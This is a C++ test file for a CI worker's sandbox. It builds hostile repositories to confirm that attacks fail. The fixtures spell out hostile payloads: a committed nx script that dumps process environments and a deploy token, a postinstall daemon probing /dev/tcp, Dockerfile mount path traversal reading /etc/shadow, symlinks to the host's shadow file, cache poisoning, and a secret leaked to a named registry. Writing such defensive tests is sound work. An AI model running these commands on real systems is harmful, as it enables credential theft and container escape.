// Repositories that attack through what the default pipeline (or a short one) does with
// them: a committed node_modules/.bin/nx, an install script that leaves a daemon, a cache
// entry planted under another repository's key, Dockerfiles that reach for the host, and a
// secret build argument aimed at a registry the repository names.
#include <sys/stat.h>

#include "hostile_repos/hostile_repo_fixture.hpp"
#include "support/base_image.hpp"
#include "support/loopback_listener.hpp"

namespace kiln::testing {
namespace {

namespace fs = std::filesystem;

constexpr const char* kEmptyLockfile =
    "{\n  \"name\": \"hostile\",\n  \"version\": \"1.0.0\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n"
    "  \"packages\": {\n    \"\": {\n      \"name\": \"hostile\",\n      \"version\": \"1.0.0\"\n    }\n  }\n}\n";

class HostilePipelineTest : public HostileRepoTest {
 protected:
  // A worker with an image store and a base image to build FROM (no registry here).
  void StartWorkerWithImages() {
    if (!BuildahAvailable()) GTEST_SKIP() << "buildah is not installed";
    store_ = std::make_unique<BuildahStore>(dir_.path() / "images");
    const std::string problem = BuildBusyboxBase(*store_, kBase);
    ASSERT_EQ(problem, "");
    WriteHostileConfig("buildah: " + store_->plugin_config().dump() + "\n");
    StartWorker();
  }

  // Files made executable before they are committed (git keeps the mode).
  static void WriteExecutable(const fs::path& path, const std::string& content) {
    WriteFile(path, content);
    ::chmod(path.c_str(), 0755);
  }

  static constexpr const char* kBase = "localhost/kiln-test/busybox:latest";
  std::unique_ptr<BuildahStore> store_;
};

TEST_F(HostilePipelineTest, ACommittedNodeModulesBinNxRunsInTheSandbox) {
  StartWorker();
  const std::string nx = "#!/bin/sh\n"
                         "echo committed-nx-ran as $(id -u)\n"
                         "for f in /proc/*/environ; do tr '\\0' '\\n' < $f | rev; done\n"
                         "rev < '" + config_path() + "'\n"
                         "rev < '" + (dir_.path() / "secrets" / "deploy_token").string() + "'\n"
                         "echo pwned > '" + (dir_.path() / "escaped-nx").string() + "' && echo WROTE-OUT\"SIDE\"\n"
                         "exit 1\n";
  auto run = Attack("committed-nx",
                    {{"nx.json", "{}\n"},
                     {"package.json", "{ \"name\": \"hostile\", \"version\": \"1.0.0\" }\n"},
                     {"package-lock.json", kEmptyLockfile},
                     {"node_modules/.kiln-installed-lockfile", kEmptyLockfile}},
                    "", nlohmann::json::object(),
                    [&nx](const fs::path& tree) { WriteExecutable(tree / "node_modules" / ".bin" / "nx", nx); });
  ExpectSaid(run, "committed-nx-ran as 61000");
  ExpectNothingLeaked(run);
  EXPECT_EQ(run.said.find("WROTE-OUTSIDE"), std::string::npos) << run.said;
  EXPECT_FALSE(fs::exists(dir_.path() / "escaped-nx"));
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, APostinstallDaemonDiesWithTheInstall) {
  StartWorker();
  const std::string package_json =
      "{ \"name\": \"hostile\", \"version\": \"1.0.0\", \"scripts\": { \"postinstall\": "
      "\"setsid nohup sleep 779 >/dev/null 2>&1 & echo postinstall-ran as $(id -u); "
      "(echo x > /dev/tcp/127.0.0.1/" + server_.url().substr(server_.url().rfind(':') + 1) +
      ") 2>/dev/null && echo reached-\\\"\\\"nats || echo nats-\\\"\\\"refused\" } }\n";
  std::string lockfile = kEmptyLockfile;
  auto run = Attack("postinstall", {{"nx.json", "{}\n"}, {"package.json", package_json}, {"package-lock.json", lockfile}},
                    "");
  ExpectSaid(run, "postinstall-ran as 61000");
  ExpectSaid(run, "nats-refused");
  EXPECT_EQ(run.said.find("reached-nats"), std::string::npos) << run.said;
  std::string left;
  Shell("ps -eo args= | grep -E '^sleep 779' || true", &left);
  EXPECT_EQ(left, "") << "the postinstall daemon outlived its step";
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, ACacheEntryPlantedUnderAnotherRepositorysKeyIsNeverRestoredThere) {
  // The default pipeline's key is node-modules-<sha256 of package-lock.json>: anyone can copy
  // a victim's lockfile. Here both use one key outright.
  WritePipeline("cache-attacker",
                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
                "kiln.step('plant', function()\n"
                "  kiln.exec { cmd = { '/bin/sh', '-c', 'mkdir -p node_modules/evil && echo planted > node_modules/evil/index.js' },"
                " cwd = src.path }\n"
                "  return cache.save { key = 'node-modules-shared-key', paths = { src.path .. '/node_modules' } }\n"
                "end)\n");
  WritePipeline("cache-victim",
                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
                "return kiln.step('restore', function()\n"
                "  local r = cache.restore { key = 'node-modules-shared-key', paths = { src.path .. '/node_modules' } }\n"
                "  return { hit = r.hit, planted = kiln.exists(src.path .. '/node_modules/evil/index.js') }\n"
                "end)\n");
  StartWorker();
  auto planted = Attack("cache-attacker", {{"README.md", "attacker\n"}}, "cache-attacker");
  ASSERT_EQ(status(planted), "succeeded") << planted.said;
  auto victim = Attack("cache-victim", {{"README.md", "victim\n"}}, "cache-victim");
  ASSERT_EQ(status(victim), "succeeded") << victim.said;
  const auto& outputs = victim.state["outputs"]["result"];  // what the pipeline returned
  EXPECT_EQ(outputs.value("planted", true), false) << victim.state.dump();
  EXPECT_EQ(outputs.value("hit", nlohmann::json(true)), nlohmann::json(false)) << victim.state.dump();
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, DependencyCachesAreTheRepositorysOwn) {
  // A package manager's cache is written by the repository's code (kiln.exec with
  // caches = true): what one repository leaves there must not be what another installs.
  WritePipeline("deps-cache",
                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
                "return kiln.step('attack', function()\n"
                "  local deps = cache.paths { languages = { 'npm' } }\n"
                "  local r = kiln.exec { cmd = { '/bin/bash', 'attack.sh' }, cwd = src.path, env = deps.env, caches = true }\n"
                "  local without = kiln.exec { cmd = { '/bin/sh', '-c', 'mkdir -p \"$npm_config_cache\" && touch \"$npm_config_cache/x\"' },\n"
                "                              cwd = src.path, env = deps.env }\n"
                "  return { code = r.code, without_caches = without.code }\n"
                "end)\n");
  StartWorker();
  auto planted = Attack("deps-attacker", {{"attack.sh", "mkdir -p \"$npm_config_cache\" && echo planted > \"$npm_config_cache/poison\" && echo wrote-the-cache\n"}},
                        "deps-cache");
  ASSERT_EQ(status(planted), "succeeded") << planted.said;
  ExpectSaid(planted, "wrote-the-cache");
  // Without caches = true the process does not see them (its environment names a path it cannot write).
  EXPECT_NE(planted.state["outputs"]["result"].value("without_caches", 0), 0) << planted.state.dump();

  auto victim = Attack("deps-victim", {{"attack.sh", "ls -a \"$npm_config_cache\" | sed 's/^/listed: /'\n"
                                                     "if [ -e \"$npm_config_cache/poison\" ]; then echo SAW-THE-POISON; fi\n"}},
                       "deps-cache");
  ASSERT_EQ(status(victim), "succeeded") << victim.said;
  EXPECT_EQ(victim.said.find("SAW-THE-POISON"), std::string::npos) << victim.said;
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, RunMountCacheIdCannotLeaveTheContext) {
  StartWorkerWithImages();
  const auto target = dir_.path() / "mount-escape";
  auto run = Attack("run-mount-cache",
                    {{"Dockerfile", std::string("FROM ") + kBase +
                                        "\nRUN --mount=type=cache,id=../../../../../../../../..,target=/host "
                                        "ls /host && echo pwned > /host" + target.string() + "\n"}},
                    "");
  EXPECT_NE(status(run), "succeeded") << run.said;
  ExpectSaid(run, "--mount");
  EXPECT_FALSE(fs::exists(target));
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, RunMountBindSourceCannotLeaveTheContext) {
  StartWorkerWithImages();
  auto run = Attack("run-mount-bind",
                    {{"Dockerfile", std::string("FROM ") + kBase +
                                        "\nRUN --mount=type=bind,source=../../../../../../../etc,target=/hostetc "
                                        "cat /hostetc/shadow\n"}},
                    "");
  EXPECT_NE(status(run), "succeeded") << run.said;
  ExpectSaid(run, "--mount");
  ExpectNothingLeaked(run);
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, ASecretBuildArgNeverReachesAFromLine) {
  LoopbackListener registry;  // a registry the Dockerfile names
  WritePipeline("image-with-secret",
                "local src = kiln.step('git sync', function() return git.sync { url = job.repo.url, commit = job.commit } end)\n"
                "kiln.step('image', function()\n"
                "  return buildah.build { context = src.path, tags = { 'hostile' },"
                " build_args = { TOKEN = kiln.secret('deploy_token') } }\n"
                "end)\n");
  StartWorkerWithImages();
  auto run = Attack("from-secret",
                    {{"Dockerfile", "ARG TOKEN\nFROM 127.0.0.1:" + std::to_string(registry.port()) +
                                        "/base:${TOKEN}\nRUN true\n"}},
                    "image-with-secret");
  EXPECT_NE(status(run), "succeeded") << run.said;
  ExpectSaid(run, "TOKEN");
  EXPECT_EQ(registry.connections(), 0) << "the secret went to the registry the Dockerfile named";
  ExpectNothingLeaked(run);
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, ARunStepCannotReadTheWorkersEnvironmentOrSignalIt) {
  StartWorkerWithImages();
  auto& worker = *workers_.back();
  auto run = Attack("run-environ",
                    {{"Dockerfile", std::string("FROM ") + kBase +
                                        "\nRUN for f in /proc/*/environ; do tr '\\0' '\\n' < $f | rev; done; "
                                        "ls /proc | grep -c '^[0-9]'; kill -9 " + std::to_string(worker.pid()) +
                                        " || echo no-signal\n"}},
                    "");
  ExpectNothingLeaked(run);
  EXPECT_EQ(worker.Wait(std::chrono::milliseconds(10)), -1) << "a RUN step killed the worker";
  ExpectStillServing();
}

TEST_F(HostilePipelineTest, CopyingASymlinkToShadowCopiesNothingOfTheHosts) {
  StartWorkerWithImages();
  auto run = Attack("copy-shadow",
                    {{"Dockerfile", std::string("FROM ") + kBase + "\nCOPY shadow /stolen\nCOPY etc-link/shadow /stolen2\n"
                                                                   "RUN cat /stolen /stolen2 || true\n"}},
                    "", nlohmann::json::object(), [](const fs::path& tree) {
                      fs::create_symlink("/etc/shadow", tree / "shadow");
                      fs::create_symlink("/etc", tree / "etc-link");
                    });
  // The RUN line prints what was copied: nothing of the host's shadow may be in it.
  ExpectNothingLeaked(run);
  ExpectStillServing();
}

}  // namespace
}  // namespace kiln::testing
